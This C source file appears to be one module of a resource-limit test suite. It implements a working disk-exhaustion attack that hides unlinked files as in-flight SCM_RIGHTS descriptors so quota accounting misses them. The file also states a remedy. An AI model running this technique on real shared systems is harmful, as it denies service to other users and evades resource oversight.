// SPDX-License-Identifier: MIT
/*
 * in-flight-files.c - a disk bomb that is in the post.
 *
 * Goal:  more bytes on disk than the budget.
 * Means: a file is filled, unlinked, sent through a pair of sockets (SCM_RIGHTS) and closed. As long as
 *        nobody receives it, it has no name, no descriptor and no mapping: who adds up the files of the
 *        folder and those that processes have open finds none of it. Each is within RLIMIT_FSIZE.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define FILES 12
#define BYTES (8UL << 20)

static int send_descriptor(int to, int fd)
{
	union {
		char room[CMSG_SPACE(sizeof(int))];
		struct cmsghdr header;
	} control = { .header = { .cmsg_level = SOL_SOCKET,
				  .cmsg_type = SCM_RIGHTS,
				  .cmsg_len = CMSG_LEN(sizeof(int)) } };
	struct iovec byte = { .iov_base = (char[]){ 'x' }, .iov_len = 1 };
	const struct msghdr m = { .msg_iov = &byte, .msg_iovlen = 1, .msg_control = &control,
				  .msg_controllen = sizeof(control) };

	memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
	return sendmsg(to, &m, MSG_NOSIGNAL) == 1 ? 0 : -1;
}

static enum claim run(const struct brief *b)
{
	static char block[1 << 20];
	int pair[2];

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
		return denied("socketpair");
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		int fd = open("letter", O_RDWR | O_CREAT | O_EXCL, 0600);

		if (fd < 0)
			return denied("open");
		unlink("letter");
		for (size_t n = 0; n < BYTES; n += sizeof(block))
			if (write(fd, block, sizeof(block)) != (ssize_t)sizeof(block))
				return denied("write");
		if (send_descriptor(pair[0], fd) < 0)
			return denied("sendmsg");
		close(fd);
	}
	return hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "unlinked files that are sent over a socket and never received: no process has them open",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "where descriptors are in flight, believe the file system; a quota",
	.refs = (const char *const[]){ "unix(7): SCM_RIGHTS", "proc_pid_fdinfo(5)", NULL },
	.run = run,
};
